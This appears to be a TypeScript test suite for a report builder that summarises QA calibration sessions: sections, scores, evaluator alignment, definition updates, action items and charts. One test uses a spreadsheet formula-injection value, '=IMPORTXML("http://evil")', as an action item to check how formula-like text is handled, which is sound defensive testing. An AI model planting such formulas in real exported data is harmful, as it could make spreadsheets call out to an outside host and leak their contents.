import { analyzeSession } from '../../../src/domain/analysis';
import { buildReport, CHART_SENTENCES, EMPTY_SENTENCES, followUpItems, reportTitle } from '../../../src/domain/report/buildReport';
import { formatAlpha } from '../../../src/domain/report/format';
import { FIXED_TIME } from '../../fixtures/calibration';
import { actionItem, handMadeInput, handMadeSession, reportLines, section, sectionLines } from './reportFixture';

const SECTIONS = [
  'Executive summary',
  'The session',
  'Final calibrated scores',
  'Evaluator alignment',
  'Key disagreements and resolutions',
  'Scorecard definition updates',
  'Action items',
  'Follow-up from earlier sessions',
  "Facilitator's notes",
];

describe('buildReport', () => {
  const input = handMadeInput();
  const report = buildReport(input);

  it('is titled after the session and has every section in order', () => {
    expect(report.title).toBe('Calibration report — November calibration — 2026-11-30');
    const sections = report.blocks
      .filter((block) => block.kind === 'heading' && block.level === 1)
      .map((block) => block.kind === 'heading' && block.text);
    expect(sections).toEqual(SECTIONS);
  });

  it('describes the session: date, facilitator, participants with role (attendance only when named), calls with links', () => {
    const lines = sectionLines(report, 'The session');
    expect(lines).toEqual(
      expect.arrayContaining([
        'Date: 2026-11-30',
        'Facilitator: Fay Facilitator',
        'Scorecard: Support QA, version 2',
        '- Ann Lee — Team lead',
        '- Ben Ode — QA analyst',
        '- Cat Ruiz — Trainer',
        '- Billing call (agent Dana, 2026-11-02, voice)',
        '- Refund call (voice)',
      ]),
    );
    const calls = section(report, 'The session').find((block) => block.kind === 'list' && block.items[0][0].text === 'Billing call');
    expect(calls?.kind === 'list' && calls.items[0][0]).toEqual({ text: 'Billing call', link: 'https://calls.example.com/1' });
  });

  it('reports attendance of an evaluator who submitted part or none of the calls', () => {
    const partial = handMadeInput();
    partial.session = { ...partial.session, options: { ...partial.session.options, anonymousReveal: false } };
    const submissions = [...['ann', 'ben'].flatMap((id) => [sheetFor(id, 'c1'), sheetFor(id, 'c2')]), sheetFor('cat', 'c1')];
    partial.analysis = analyzeSession({ session: partial.session, submissions });
    expect(sectionLines(buildReport(partial), 'The session')).toContain('- Cat Ruiz — Trainer, submitted 1 of 2 calls');
    partial.analysis = analyzeSession({ session: partial.session, submissions: submissions.filter((s) => s.evaluatorId !== 'cat') });
    expect(sectionLines(buildReport(partial), 'The session')).toContain('- Cat Ruiz — Trainer, did not submit');
    // Anonymous: attendance per person would match the labelled rows by elimination.
    partial.session = { ...partial.session, options: { ...partial.session.options, anonymousReveal: true } };
    expect(sectionLines(buildReport(partial), 'The session')).toContain('- Cat Ruiz — Trainer');
    expect(sectionLines(buildReport(partial), 'The session').filter((line) => /submit/.test(line))).toEqual([]);
  });

  it('lists the calibrated score of each call and, per criterion, final, consensus and agreement', () => {
    const lines = sectionLines(report, 'Final calibrated scores');
    expect(lines).toEqual(
      expect.arrayContaining([
        "Call | Calibrated score | Consensus score | Evaluators' range",
        'Billing call | 50.0% | 75.0% | 50.0% – 100.0%',
        'Refund call | 87.5% | 87.5% | 0.0% – 87.5%',
        '## Billing call: 50.0%',
        'Criterion | Final | Consensus | Agreement',
        'Did the agent greet the customer by name? | No (agreed in discussion) | Yes | 66.7%',
        'Did the agent read the disclosure? (critical) | Yes | Yes | 100.0%',
        'How empathetic was the agent? | 3 | 3 | 66.7%',
        '## Refund call: 87.5%',
        'Did the agent read the disclosure? (critical) | Yes | Yes | 66.7%',
      ]),
    );
  });

  it('shows alignment under reveal labels when the reveal is anonymous, with deviation, tendency and alignment', () => {
    const lines = sectionLines(report, 'Evaluator alignment');
    expect(lines).toContain(
      'Evaluator | Mean deviation | Mean absolute deviation | Tendency | Alignment | Within target | Critical disagreements',
    );
    // Reveal order, juniors first: Ben (A), Cat (B), Ann (C). Alignment weighs each answer's match with
    // the final by points: Ben misses greet on the billing call (1 of 8 points) = 87.5%; Cat misses the
    // disclosure on the refund call = 87.5%; Ann misses greet and half of empathy (2 of 8) = 75.0%.
    expect(lines.filter((line) => /^Evaluator [A-Z] \| [+\u2212]/.test(line))).toEqual([
      'Evaluator A | +12.5 pp | 12.5 pp | Lenient | 87.5% | No | 0',
      'Evaluator B | \u221212.5 pp | 12.5 pp | Harsh | 87.5% | No | 1',
      'Evaluator C | +25.0 pp | 25.0 pp | Lenient | 75.0% | No | 0',
    ]);
    expect(lines.join('\n')).not.toMatch(/Ann Lee|Ben Ode|Cat Ruiz/);
  });

  it('shows each score per call as compared: an auto-fail at 0% with its raw score, failed criterion and critical disagreement', () => {
    const lines = sectionLines(report, 'Evaluator alignment');
    expect(lines).toEqual(
      expect.arrayContaining([
        'Evaluator | Billing call | Refund call',
        'Evaluator B | 50.0%, 0.0 pp | 0.0% (auto-fail: Did the agent read the disclosure?; raw 62.5%), \u221225.0 pp; critical disagreement: Did the agent read the disclosure?',
        'Calibrated | 50.0% | 87.5%',
        '- Critical (auto-fail) disagreements: 1 of 2 calls',
      ]),
    );
    expect(lines.some((line) => line.startsWith("- Gwet's AC1: AC1 0.44 (unreliable). "))).toBe(true);
  });

  it('names evaluators with their role when the reveal is not anonymous', () => {
    const named = handMadeInput(handMadeSession({ options: { anonymousReveal: false } }));
    const lines = sectionLines(buildReport(named), 'Evaluator alignment');
    expect(lines).toContain(
      'Evaluator | Role | Mean deviation | Mean absolute deviation | Tendency | Alignment | Within target | Critical disagreements',
    );
    expect(lines.some((line) => line.startsWith('Ann Lee | Team lead | +25.0 pp | 25.0 pp | Lenient'))).toBe(true);
    expect(lines.some((line) => line.startsWith('Cat Ruiz | Trainer | \u221212.5 pp | 12.5 pp | Harsh'))).toBe(true);
  });

  it('gives session variance against the target and the previous session, and α', () => {
    const lines = sectionLines(report, 'Evaluator alignment');
    expect(lines).toEqual(
      expect.arrayContaining([
        '- Calibration variance: 16.7 pp against a target of 5.0 pp: above the target',
        '- Evaluators within target: 0 of 3 (0.0%)',
        'Compared with the previous session (2026-10-30):',
        '- Calibration variance: 30.0 pp → 16.7 pp (\u221213.3 pp, closer alignment)',
        '- Evaluators within target: 50.0% → 0.0% (\u221250.0 pp)',
      ]),
    );
    const alphaNow = formatAlpha(input.analysis.summary.alpha);
    expect(lines.some((line) => line.startsWith(`- Krippendorff's α: ${alphaNow}`))).toBe(true);
    expect(lines.some((line) => line.startsWith(`- Krippendorff's α: α 0.50 (unreliable) → ${alphaNow}`))).toBe(true);
  });

  it('says when the previous session was scored under another rule', () => {
    const changed = { ...input, previousSession: { ...input.previousSession!, scoringRule: 'points' as const } };
    const lines = sectionLines(buildReport(changed), 'Evaluator alignment');
    expect(lines).toContain(
      'Compared with the previous session (2026-10-30): the scoring rule changed since then (criterion points then, section shares now), so part of any change in variance comes from the rule, not the team.',
    );
    expect(sectionLines(report, 'Evaluator alignment')).toContain('Compared with the previous session (2026-10-30):');
  });

  it('lists the key disagreements with the discussion, the resolution and the finals', () => {
    const lines = sectionLines(report, 'Key disagreements and resolutions');
    expect(lines[2]).toBe('Criterion | Disagreement | Discussion | Resolution | Final');
    // The critical mismatch on the refund call comes first: an auto-fail is at stake.
    expect(lines[3]).toMatch(
      /^Did the agent read the disclosure\? \(critical\) \| critical criterion: 1 evaluator failed it on Refund call/,
    );
    const greet = lines.find((line) => line.startsWith('Did the agent greet'));
    expect(greet).toBe(
      'Did the agent greet the customer by name? | 2 say Yes, 1 says No on Billing call | Billing call: The agent used the account name, not the caller’s. | Billing call: Greeting by account name does not count. | Billing call: No (agreed in discussion)',
    );
  });

  it('shows this session’s definition changes, old and new with the changed words marked and the reason, and not older ones', () => {
    const lines = sectionLines(report, 'Scorecard definition updates');
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/\(greet\), version 2 → 3$/),
        '- Old: Yes when a name is used.',
        '- New: Yes only when the caller’s own name is used.',
        '- Reason: Account names were counted inconsistently.',
      ]),
    );
    expect(lines.join('\n')).not.toContain('Acknowledges feelings.');
    const list = section(report, 'Scorecard definition updates').find((block) => block.kind === 'list');
    if (list?.kind !== 'list') throw new Error('expected the change as a list');
    const [old, now] = list.items;
    expect(old!.filter((run) => run.removed).map((run) => run.text.trim())).toEqual(['a']);
    const added = now!.filter((run) => run.added).map((run) => run.text.trim());
    expect(added).toEqual(['only', 'the caller’s own']);
  });

  it('opens with an executive summary: the figures against target and last session, the biggest disagreements, the action items', () => {
    expect(report.blocks[0]!.kind).toBe('paragraph');
    expect(reportLines(report)[0]).toMatch(/^Built .* from the session as it stood then: /);
    const lines = sectionLines(report, 'Executive summary');
    expect(lines[1]).toBe('Figure | This session | Target | Previous session | Change');
    expect(lines[2]).toMatch(/^Calibration variance \| .* pp \((within|above)\) \| 5\.0 pp or less \| /);
    expect(lines).toContain('## The three biggest disagreements and how they were resolved');
    const top = input.analysis.agenda.slice(0, 3);
    expect(lines.filter((line) => line.startsWith('- ')).length).toBe(top.length);
    expect(lines).toContain('## Action items');
  });

  it('lists this session’s action items with owner, due date and status', () => {
    expect(sectionLines(report, 'Action items')).toEqual([
      '# Action items',
      'Action | Owner | Due | Status',
      'Retrain on greetings | Ben Ode | 2026-12-15 | Open',
    ]);
  });

  it('follows up the previous session’s items whatever their status, and older ones still not done', () => {
    expect(sectionLines(report, 'Follow-up from earlier sessions')).toEqual([
      '# Follow-up from earlier sessions',
      'Action | Owner | Due | Status | Raised',
      'Update the disclosure script | Ann Lee | 2026-11-15 | Done | 2026-11-30',
      'Share call samples | Cat Ruiz | 2026-11-20 | In progress (overdue) | 2026-11-30',
      'Old open task | Fay Facilitator | No due date | Open | 2026-11-30',
    ]);
  });

  it('says so in a sentence when a section is empty', () => {
    const quiet = handMadeInput();
    const agreeing = ['ann', 'ben', 'cat'].flatMap((id) => [sheetFor(id, 'c1', 'ann'), sheetFor(id, 'c2', 'ann')]);
    quiet.analysis = analyzeSession({ session: quiet.session, submissions: agreeing });
    quiet.discussion = [];
    quiet.definitionChanges = [];
    quiet.actionItems = [];
    quiet.previousSession = null;
    const lines = reportLines(buildReport(quiet));
    expect(lines).toEqual(
      expect.arrayContaining([
        EMPTY_SENTENCES.disagreements,
        EMPTY_SENTENCES.definitions,
        EMPTY_SENTENCES.actionItems,
        EMPTY_SENTENCES.followUp,
        EMPTY_SENTENCES.previous,
      ]),
    );
    expect(section(buildReport(quiet), 'Scorecard definition updates')).toHaveLength(2);
  });

  it('keeps formula-like text as it was typed', () => {
    const risky = handMadeInput();
    risky.actionItems = [actionItem({ id: 'x', text: '=IMPORTXML("http://evil")', owner: '+Owner', sessionId: 'nov' })];
    expect(sectionLines(buildReport(risky), 'Action items')).toContain('=IMPORTXML("http://evil") | +Owner | No due date | Open');
  });
});

describe('followUpItems', () => {
  it('keeps earlier sessions’ unfinished items and all of the previous session’s', () => {
    const items = handMadeInput().actionItems;
    expect(followUpItems(items, 'nov', 'oct').map((item) => item.id)).toEqual(['p1', 'p2', 's2']);
    expect(followUpItems(items, 'nov', null).map((item) => item.id)).toEqual(['p2', 's2']);
  });
});

describe('reportTitle', () => {
  it('names the session and its date', () => {
    expect(reportTitle({ title: '=Q4', sessionDate: '2026-12-01' })).toBe('Calibration report — =Q4 — 2026-12-01');
  });
});

/** The answers one evaluator gave in the hand-made session, for someone else (to make everyone agree). */
function sheetFor(evaluatorId: string, callId: string, copyOf = evaluatorId) {
  const session = handMadeSession();
  const answers: Record<string, Record<string, 0 | 1 | 3 | 4 | 5>> = {
    'ann/c1': { greet: 1, disclose: 1, empathy: 5 },
    'ben/c1': { greet: 1, disclose: 1, empathy: 3 },
    'cat/c1': { greet: 0, disclose: 1, empathy: 3 },
    'ann/c2': { greet: 1, disclose: 1, empathy: 4 },
    'ben/c2': { greet: 1, disclose: 1, empathy: 4 },
    'cat/c2': { greet: 1, disclose: 0, empathy: 4 },
  };
  return {
    sessionId: session.id,
    evaluatorId,
    callId,
    answers: Object.entries(answers[`${copyOf}/${callId}`]).map(([criterionId, value]) => ({ criterionId, value, comment: '' })),
    status: 'submitted' as const,
    submittedAt: FIXED_TIME,
    updatedAt: FIXED_TIME,
    revision: 1,
  };
}

describe("the report's Charts section", () => {
  const charts = (shown: Parameters<typeof buildReport>[0]['charts']) =>
    sectionLines(buildReport({ ...handMadeInput(), charts: shown }), 'Charts');

  it('follows the executive summary, each chart under its title, a picture or the sentence saying where it is', () => {
    const report = buildReport({
      ...handMadeInput(),
      charts: {
        from: 'summary',
        charts: [
          { title: 'Deviation', pictured: true },
          { title: null, pictured: false },
        ],
      },
    });
    const sections = report.blocks.flatMap((block) => (block.kind === 'heading' && block.level === 1 ? [block.text] : []));
    expect(sections.slice(0, 3)).toEqual(['Executive summary', 'Charts', 'The session']);
    expect(sectionLines(report, 'Charts')).toEqual([
      '# Charts',
      CHART_SENTENCES.intro,
      '## Deviation',
      '[picture 1]',
      '## Chart 2 on the Summary tab',
      CHART_SENTENCES.missing,
    ]);
  });

  it('says so when the Summary had no charts, or a later session replaced it; absent, there is no section', () => {
    expect(charts({ from: 'summary', charts: [] })).toEqual(['# Charts', CHART_SENTENCES.none]);
    expect(charts({ from: 'replaced' })).toEqual(['# Charts', CHART_SENTENCES.replaced]);
    expect(() => charts(undefined)).toThrow('No section "Charts"');
  });
});
